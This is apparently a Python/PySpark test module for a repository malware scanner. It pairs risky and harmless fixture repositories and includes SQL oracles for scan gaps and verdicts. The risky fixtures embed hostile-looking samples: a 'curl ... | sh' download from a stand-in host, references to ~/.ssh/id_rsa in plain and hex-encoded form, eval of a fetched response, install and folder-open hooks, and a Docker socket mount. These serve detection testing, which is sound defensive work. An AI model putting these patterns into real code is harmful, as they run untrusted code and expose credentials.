"""Queries over whole scans: pairs of a risky and a harmless repository, and gaps.

The oracle of the pairs is what the pairs are made for: every risky side raises
its rule, and no harmless side has a finding of weight.  The gaps' SQL works the
reasons out from the planted files."""

from __future__ import annotations

from pyspark.sql import DataFrame, SparkSession
from pyspark.sql import functions as F

from treesift.operators import findings, rules, scan
from treesift.plans.fixtures import values_sql
from treesift.plans.rule_cases import CASES
from treesift.plans.text_queries import CUSTOM, custom_rule_sql
from treesift.sources import files
from treesift.sources.files import CORPUS_SQL

TREE = files.TREE
#: (case, rule, files of the risky side, files of the harmless side); a file is (path, text).
PAIRS = (
    ("lifecycle", "PKG-001", [("package.json", '{"name": "a", "scripts": {"postinstall": "echo marker"}}')], [("package.json", '{"name": "a", "scripts": {"test": "echo marker"}}')]),
    ("startup", "IMPORT-001", [("vite.config.cjs", "const where = './local.cjs';\nrequire(where);\n")], [("vite.config.cjs", "module.exports = { plugins: [] };\n")]),
    ("disguised-asset", "EXEC-001", [("photo.png", "const note = 'eval(atob(x))';\n")], [("photo.svg", '<svg xmlns="http://www.w3.org/2000/svg"><circle r="4"/></svg>\n')]),
    (
        "folder-open", "IDE-001",
        [(".vscode/tasks.json", '{"tasks": [{"label": "a", "command": "no-such-command", "runOptions": {"runOn": "folderOpen"}}]}')],
        [(".vscode/tasks.json", '{"tasks": [{"label": "a", "command": "no-such-command"}]}')],
    ),
    ("git-hook", "GITHOOK-001", [(".git/hooks/pre-commit", "#!/bin/sh\ngit config core.hooksPath ./own-hooks\n")], [(".git/hooks/pre-commit.sample", "#!/bin/sh\nexit 0\n")]),
    ("encoded-download", "CHAIN-001", [("run.sh", "curl -s https://files.example/a.sh | sh\n")], [("run.sh", "echo nothing to fetch\n")]),
    ("credential-path", "CRED-001", [("read.js", "const at = process.env.HOME + '/.ssh/id_rsa';\n")], [("read.js", "const at = './notes.txt';\n")]),
    ("docker-socket", "DOCKER-001", [("compose.yaml", "services:\n  a:\n    image: x\n    volumes:\n      - /var/run/docker.sock:/var/run/docker.sock\n")], [("compose.yaml", "services:\n  a:\n    image: x\n    volumes:\n      - data:/data\n")]),
    ("known-package", "IOC-PKG-ADV-9", [("package.json", '{"name": "a", "dependencies": {"bad-lib": "3.1.4"}}')], [("package.json", '{"name": "a", "dependencies": {"good-lib": "3.1.4"}}')]),
    (
        "response-execution", "FLOW-001",
        [("load.mjs", "import axios from 'axios';\nasync function go() {\n  const r = await axios.get('/x');\n  eval(r.data);\n}\n")],
        [("load.mjs", "import axios from 'axios';\nasync function go() {\n  const r = await axios.get('/x');\n  return r.data;\n}\n")],
    ),
    ("decoded-literal", "DECODE-001", [("mark.js", "const v = '\\x2f\\x68\\x6f\\x6d\\x65\\x2f\\x61\\x2f\\x2e\\x73\\x73\\x68\\x2f\\x69\\x64\\x5f\\x72\\x73\\x61';\n")], [("mark.js", "const v = 'plain text';\n")]),
)
ALWAYS = (("README.md", "# Case\n"), ("LICENSE", "Permission is granted.\n"))


def _row(repo: str, path: str, body: bytes | None, executable: bool = False, problem: str | None = None, size: int | None = None, link: str | None = None) -> tuple:
    return repo, path, len(body or b"") if size is None else size, executable, link, body, problem


def pair_tree(spark: SparkSession) -> DataFrame:
    rows = [_row(f"{case}/{side}", p, t.encode(), ".git/hooks/" in p) for case, _, risky, harmless in PAIRS for side, own in (("risky", risky), ("harmless", harmless)) for p, t in (*own, *ALWAYS)]
    return spark.createDataFrame(rows, TREE)


def pair_scan(spark: SparkSession) -> scan.Scan:
    advisories = spark.createDataFrame([("npm", "bad-lib", "ADV-9", ["= 3.1.4"])], "ecosystem string, name string, advisory_id string, affected array<string>")
    return scan.scan_everything(pair_tree(spark), advisories)


PAIRS_SQL = f"""WITH {values_sql("c", "case_id, rule_id", [(c, r) for c, r, _, _ in PAIRS])}
SELECT case_id, rule_id, true AS risky_found, 0 AS harmless_of_weight, true AS complete FROM c"""


def paired_cases_x(spark: SparkSession, sf_dir: str) -> DataFrame:
    """Whether each case's rule is raised on its risky side, how many findings of weight
    its harmless side has, and whether both were wholly read."""
    done = pair_scan(spark)
    split = lambda df: df.withColumns({"case_id": F.split_part("repo_id", F.lit("/"), F.lit(1)), "side": F.split_part("repo_id", F.lit("/"), F.lit(2))})
    cases = spark.createDataFrame([(c, r) for c, r, _, _ in PAIRS], "case_id string, wanted string")
    of = split(done.findings).join(F.broadcast(cases), "case_id").groupBy("case_id").agg(
        F.bool_or((F.col("side") == "risky") & (F.col("rule_id") == F.col("wanted"))).alias("risky_found"),
        F.count_if((F.col("side") == "harmless") & F.col("severity").isin("high", "critical") & (F.col("disposition") != "informational")).cast("int").alias("harmless_of_weight"),
    )
    whole = split(done.verdicts).groupBy("case_id").agg(F.bool_and("complete").alias("complete"))
    return cases.join(of, "case_id", "left").join(whole, "case_id", "left").select("case_id", F.col("wanted").alias("rule_id"), "risky_found", "harmless_of_weight", "complete")


#: (repo, path, bytes as hexadecimal digits, executable, problem, size): files with and without a gap.
GAPS = (
    ("whole", "a.js", "636F6E73742061203D20313B0A", False, None, 13),
    ("whole", "logo.png", "89504E470D0A1A0A0000", False, None, 10),  # no text, and no source either
    ("whole", "long.py", "61" * 8191 + "C3A9" + "0A", False, None, 8194),  # a letter across the end of the sample
    ("zero", "b.js", "6100620A", False, None, 4),
    ("zero2", "c.sh", "500A" + "61" * 20 + "00", False, None, 23),
    ("latin", "d.py", "E9E8E90A", False, None, 4),
    ("runs", "tool", "7F454C4600FF", True, None, 6),
    ("large", "e.js", None, False, "file-size limit", 99_000_000),
    ("closed", "f.js", None, False, "unreadable: Permission denied", 10),
    ("pipe", "g", None, False, "non-regular file", 0),
    ("many", "h.js", "610A", False, None, 2), ("many", "i.js", "610A", False, None, 2), ("many", "j.js", "610A", False, None, 2), ("many", "k.js", "610A", False, None, 2),
)
MOST_FILES = 3

GAPS_SQL = f"""WITH {values_sql("f", "repo_id, path, hex, executable, problem, size", list(GAPS))},
b AS (SELECT *, substr(hex, 1, 16384) AS head FROM f WHERE hex IS NOT NULL),
bytes AS (SELECT *, list_transform(range(0, length(head) // 2), lambda i: substr(head, 2 * i + 1, 2)) AS x FROM b),
t AS (SELECT *, list_contains(x, '00') AS zero, regexp_matches(head, '^([0-7].)*$') OR regexp_matches(head, '^(([0-7].)|(C[2-9A-F]|D.)[89AB].)*(C3)?$') AS utf8 FROM bytes),
kinds AS (SELECT *, executable OR regexp_matches(lower(path), '\\.(js|py|sh)$') AS relevant FROM t)
SELECT repo_id, path, problem AS reason FROM f WHERE problem IS NOT NULL
UNION ALL SELECT repo_id, path, 'undecodable source or configuration' FROM kinds WHERE relevant AND (zero OR NOT utf8)
UNION ALL SELECT repo_id, '', 'file-count limit' FROM f WHERE hex IS NOT NULL GROUP BY repo_id HAVING count(*) > {MOST_FILES}"""


def _gap_tree(spark: SparkSession) -> DataFrame:
    return spark.createDataFrame([_row(r, p, None if h is None else bytes.fromhex(h), e, problem, size) for r, p, h, e, problem, size in GAPS], TREE)


def scan_gaps_x(spark: SparkSession, sf_dir: str) -> DataFrame:
    return scan.scan_gaps(_gap_tree(spark), max_files=MOST_FILES)


VERDICTS_SQL = f"""WITH gaps AS ({GAPS_SQL}), {values_sql("r", "repo_id", sorted({(g[0],) for g in GAPS}))}
SELECT repo_id, NOT EXISTS (SELECT 1 FROM gaps g WHERE g.repo_id = r.repo_id) AS complete,
       CASE WHEN repo_id IN (SELECT repo_id FROM gaps) THEN 'SCAN INCOMPLETE' ELSE 'REVIEW REQUIRED' END AS verdict FROM r"""


def scan_verdicts_x(spark: SparkSession, sf_dir: str) -> DataFrame:
    """A gap makes a repository's scan incomplete; without one, the missing readme is left to review."""
    tree = _gap_tree(spark)
    found = findings.dedup(scan.raised(scan.as_hits(scan.hygiene_hits(tree), 0)))
    return scan.verdicts(tree, found, scan.scan_gaps(tree, max_files=MOST_FILES)).select("repo_id", "complete", "verdict")


RULE_CASES_SQL = f"""WITH {values_sql("c", "rule_id", [(c[0],) for c in CASES])} SELECT rule_id, true AS found, false AS found_in_near_one FROM c"""


def rule_cases_x(spark: SparkSession, sf_dir: str) -> DataFrame:
    """For each built-in rule whether it meets its case, and whether it meets the near one."""
    rows = [(f"{rule}/{side}", path, text) for rule, path, *texts in CASES for side, text in zip(("case", "near"), texts, strict=True)]
    raised = rules.scan(spark.createDataFrame(rows, "repo_id string, path string, text string"))
    own, side = F.split_part("repo_id", F.lit("/"), F.lit(1)), F.split_part("repo_id", F.lit("/"), F.lit(2))
    met = raised.where(own == F.col("rule_id")).groupBy("rule_id").agg(F.bool_or(side == "case").alias("found"), F.bool_or(side == "near").alias("found_in_near_one"))
    every = spark.createDataFrame([(c[0],) for c in CASES], "rule_id string")
    return every.join(met, "rule_id", "left").fillna(False, ["found", "found_in_near_one"])


#: Bytes over which a text of the tables is a gap.
CORPUS_BYTES = 20_000

CORPUS_SCAN_SQL = f"""WITH {CORPUS_SQL},
small AS (SELECT repo_id, path, i AS line_no, regexp_replace(parts[i], '\\r$', '') AS line
  FROM (SELECT s.repo_id, s.path, parts, unnest(range(1, len(parts) + 1)) AS i FROM split s JOIN files USING (repo_id, path) WHERE strlen(text) <= {CORPUS_BYTES})),
met AS (
  SELECT repo_id, path, rule_id, sum(n) AS n FROM ({custom_rule_sql("small")}) WHERE n > 0 GROUP BY ALL
  UNION ALL SELECT repo_id, path, 'OBFS-004', count(*) FROM small WHERE strlen(line) > 600 GROUP BY ALL
  UNION ALL SELECT DISTINCT repo_id, '.', rule_id, 1 FROM files, (VALUES ('REPO-001'), ('REPO-002')) r(rule_id)
),
gaps AS (SELECT repo_id, count(*) AS gaps FROM files WHERE strlen(text) > {CORPUS_BYTES} GROUP BY repo_id)
SELECT repo_id, rule_id, count(*) AS findings, CAST(sum(n) AS BIGINT) AS occurrences, coalesce(max(gaps), 0) AS gaps, max(gaps) IS NULL AS complete,
       CASE WHEN max(gaps) IS NULL THEN 'REVIEW REQUIRED' ELSE 'SCAN INCOMPLETE' END AS verdict
FROM met LEFT JOIN gaps USING (repo_id) GROUP BY repo_id, rule_id"""


def scan_corpus_t(spark: SparkSession, sf_dir: str) -> DataFrame:
    """The whole scan of documents, pages and conversations as files, by built-in and own rules:
    findings of each repository and rule, with the repository's gaps and verdict.  A table
    has as many rows as it has, so no repository has a limit of files here."""
    done = scan.scan_everything(files.corpus_tree(spark, sf_dir, CORPUS_BYTES), custom=CUSTOM, max_files=None)
    counts = done.findings.groupBy("repo_id", "rule_id").agg(F.count("*").alias("findings"), F.sum("occurrences").alias("occurrences"))
    return counts.join(done.verdicts.select("repo_id", "gaps", "complete", "verdict"), "repo_id")


QUERIES = {f.__name__: f for f in (paired_cases_x, scan_gaps_x, scan_verdicts_x, rule_cases_x, scan_corpus_t)}
SQL = {"paired_cases_x": PAIRS_SQL, "scan_gaps_x": GAPS_SQL, "scan_verdicts_x": VERDICTS_SQL, "rule_cases_x": RULE_CASES_SQL, "scan_corpus_t": CORPUS_SCAN_SQL}
